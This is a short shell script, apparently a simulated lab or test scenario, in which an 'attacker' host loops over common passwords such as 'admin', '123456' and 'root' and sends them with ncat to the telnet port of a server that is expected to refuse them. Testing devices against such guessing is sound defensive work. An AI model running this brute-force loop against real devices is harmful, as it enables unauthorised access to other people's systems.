# Passwords guessed over telnet against a device that refuses them all.
# packages: ncat python3
for word in admin 123456 password root tinh2026 vietnam; do
    (sleep 0.2; printf 'admin\r\n'; sleep 0.2; printf '%s\r\n' "$word"; sleep 0.3) | from attacker ncat $SERVER 23
done
